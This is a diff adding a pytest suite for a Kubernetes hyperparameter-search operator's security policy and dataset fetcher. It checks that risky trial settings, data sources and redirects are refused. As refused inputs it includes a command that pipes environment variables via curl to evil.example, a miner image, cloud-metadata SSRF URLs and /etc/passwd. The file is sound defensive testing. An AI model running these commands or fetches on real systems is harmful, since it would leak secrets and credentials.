@@ -1,0 +1,182 @@
+"""The operator's policy (controller/settings/policy.py) and the dataset reader it governs
+(controller/data/fetch.py): a Search gets no more than the policy allows, and a data source cannot make the operator
+read a device, a metadata address or more than its cap. The same refusals through the real operator are in
+tests/kube/test_operator.py."""
+
+from __future__ import annotations
+
+import dataclasses
+import http.server
+import threading
+
+import pytest
+
+from controller.data.fetch import fetch
+from controller.errors import ConfigError
+from controller.settings.config import Settings
+from controller.settings.policy import LOCAL, PolicyError, PolicySettings, check_data, check_job
+from controller.settings.resource import settings_of
+
+PINNED = "registry.example/cifar-hpo-trainer@sha256:" + "a" * 64
+BASE = Settings(kube=dataclasses.replace(Settings().kube, image=PINNED))
+
+
+def _search(**trial) -> dict:
+    return {"apiVersion": "cifar-hpo.io/v1alpha1", "kind": "Search", "metadata": {"name": "s"},
+            "spec": {"search": {"maxTrials": 3}, "trial": trial}}
+
+
+def _check(policy: PolicySettings, **trial) -> None:
+    doc = _search(**trial)
+    wanted = settings_of(doc, BASE)
+    check_job(policy, BASE, wanted, doc["spec"]["trial"], wanted.search.parallelism)
+
+
+@pytest.mark.pure
+@pytest.mark.parametrize("trial, field", [
+    ({"image": "evil.example/miner:latest"}, "spec.trial.image"),
+    ({"image": "registry.example/cifar-hpo-trainer:latest"}, "spec.trial.image"),  # the digest is what is allowed
+    ({"command": ["sh", "-c", "env | curl -d @- https://evil.example"]}, "spec.trial.command"),
+    ({"gpuCount": 2}, "spec.trial.gpuCount"),
+    ({"activeDeadlineSeconds": 604800}, "spec.trial.activeDeadlineSeconds"),
+    ({"priorityClassName": "system-node-critical"}, "spec.trial.priorityClassName"),
+    ({"nodeSelector": {"kubernetes.io/hostname": "the-control-plane"}}, "spec.trial.nodeSelector"),
+    ({"tolerations": [{"operator": "Exists"}]}, "spec.trial.tolerations"),
+    ({"affinity": {"nodeAffinity": {}}}, "spec.trial.affinity"),
+    ({"limits": {"nvidia.com/gpu": "8"}}, "spec.trial.limits"),
+    ({"gpuResource": "amd.com/gpu"}, "spec.trial.gpuResource"),
+])
+def test_a_search_beyond_the_default_policy_is_refused_naming_the_field(trial, field):
+    with pytest.raises(PolicyError) as e:
+        _check(PolicySettings(), **trial)
+    assert str(e.value).startswith(field + ":"), e.value
+    assert "policy." in str(e.value) or "only" in str(e.value) or "may not" in str(e.value)
+
+
+@pytest.mark.pure
+def test_what_the_policy_lists_is_allowed_and_the_operators_own_settings_always_are():
+    policy = PolicySettings(images=["registry.example/other@sha256:" + "b" * 64], allow_custom_command=True,
+                            max_gpus_per_trial=2, priority_class_names=["batch-low"],
+                            node_selectors=["pool=gpu"], tolerations=[{"key": "gpu", "operator": "Exists"}],
+                            allow_affinity=True)
+    _check(policy, image="registry.example/other@sha256:" + "b" * 64, command=["python", "-m", "mytrainer"],
+           gpuCount=2, priorityClassName="batch-low", nodeSelector={"pool": "gpu"},
+           tolerations=[{"key": "gpu", "operator": "Exists"}], affinity={"nodeAffinity": {}},
+           activeDeadlineSeconds=3600)
+    _check(PolicySettings(), image=BASE.kube.image, command=list(BASE.trial.command))  # restating the defaults
+
+
+@pytest.mark.pure
+def test_parallelism_beyond_the_policy_is_refused():
+    doc = _search()
+    doc["spec"]["search"]["parallelism"] = 9
+    wanted = settings_of(doc, BASE)
+    with pytest.raises(PolicyError, match=r"spec.search.parallelism: 9 .* at most 8"):
+        check_job(PolicySettings(), BASE, wanted, {}, wanted.search.parallelism)
+
+
+@pytest.mark.pure
+@pytest.mark.parametrize("data, sha, match", [
+    ("/dev/zero", "a" * 64, "path sources are not allowed"),
+    ("/etc/passwd", "a" * 64, "path sources are not allowed"),
+    ("http://169.254.169.254/latest/meta-data/iam/cifar-100-python.tar.gz", "a" * 64, "http sources are not allowed"),
+    ("s3://someone-elses-bucket/cifar-100-python.tar.gz", "a" * 64, "not in the store's bucket"),
+    ("https://example.org/cifar-100-python.tar.gz", None, "spec.trial.dataSha256: required"),
+])
+def test_data_sources_outside_the_default_policy_are_refused(data, sha, match):
+    with pytest.raises(PolicyError, match=match):
+        check_data(PolicySettings(), data, sha, "our-bucket")
+
+
+@pytest.mark.pure
+def test_allowed_data_sources_pass():
+    for data in ("cifar100", "synthetic:500", "https://example.org/c.tar.gz", "s3://our-bucket/c.tar.gz"):
+        check_data(PolicySettings(), data, "a" * 64, "our-bucket")
+    with pytest.raises(PolicyError, match="host 'example.org' is not allowed"):
+        check_data(PolicySettings(data_hosts=["mirror.example"]), "https://example.org/c.tar.gz", "a" * 64, "b")
+
+
+@pytest.mark.e2e
+def test_a_device_is_refused_even_where_paths_are_allowed(tmp_path):
+    with pytest.raises(PolicyError, match="/dev/zero is not a regular file"):
+        fetch("/dev/zero", LOCAL, "trial.data")
+    fifo = tmp_path / "fifo"
+    import os
+
+    os.mkfifo(fifo)
+    with pytest.raises(PolicyError, match="not a regular file"):
+        fetch(str(fifo), LOCAL, "trial.data")  # O_NONBLOCK: opening a FIFO with no writer does not hang
+
+
+@pytest.mark.e2e
+def test_a_file_over_the_cap_is_cut_off_at_the_cap(tmp_path):
+    big = tmp_path / "big.tar.gz"
+    big.write_bytes(b"x" * 5000)
+    with pytest.raises(PolicyError, match="over 4096 bytes"):
+        fetch(str(big), dataclasses.replace(LOCAL, max_data_bytes=4096), "trial.data")
+
+
+class _Server:
+    """Serves /big (endless, no Content-Length), /ok, and /to-metadata (a redirect to the metadata address)."""
+
+    def __init__(self):
+        served = self.served = {"bytes": 0}
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.0"
+
+            def do_GET(self):
+                if self.path == "/to-metadata":
+                    self.send_response(302)
+                    self.send_header("Location", "http://169.254.169.254/latest/meta-data/")
+                    self.end_headers()
+                    return
+                self.send_response(200)
+                self.end_headers()
+                if self.path == "/ok":
+                    self.wfile.write(b"archive")
+                    return
+                try:
+                    for _ in range(10_000):
+                        self.wfile.write(b"z" * 65536)
+                        served["bytes"] += 65536
+                except OSError:
+                    pass  # the reader stopped at its cap
+
+            def log_message(self, *args):
+                pass
+
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+
+    def __enter__(self):
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+        return self
+
+    def __exit__(self, *exc):
+        self.httpd.shutdown()
+
+
+@pytest.mark.e2e
+def test_urls_are_checked_where_they_resolve_and_after_each_redirect():
+    open_http = dataclasses.replace(LOCAL, max_data_bytes=1 << 20)
+    with _Server() as origin:
+        assert fetch(f"{origin.url}/ok", open_http, "trial.data") == b"archive"
+        with pytest.raises(PolicyError, match=r"is over 1048576 bytes"):
+            fetch(f"{origin.url}/big", open_http, "trial.data")
+        assert origin.served["bytes"] < 64 << 20  # stopped near the cap, not after the 655 MB it offers
+        strict = dataclasses.replace(open_http, allow_private_addresses=False)
+        with pytest.raises(PolicyError, match=r"127.0.0.1, a loopback address"):
+            fetch(f"{origin.url}/ok", strict, "trial.data")
+        # The origin is allowed (private addresses are, here); the redirect's target is checked on its own, and
+        # link-local (metadata) is refused under every policy.
+        with pytest.raises(PolicyError, match=r"169.254.169.254, a link-local address"):
+            fetch(f"{origin.url}/to-metadata", open_http, "trial.data")
+    with pytest.raises(PolicyError, match="169.254.169.254, a link-local address"):
+        fetch("https://169.254.169.254/latest/meta-data/", PolicySettings(), "spec.trial.data")
+
+
+@pytest.mark.pure
+def test_a_policy_with_an_unknown_scheme_is_a_config_error():
+    with pytest.raises(ConfigError, match="policy.dataSchemes: 'ftp'"):
+        PolicySettings(data_schemes=["ftp"]).validate()
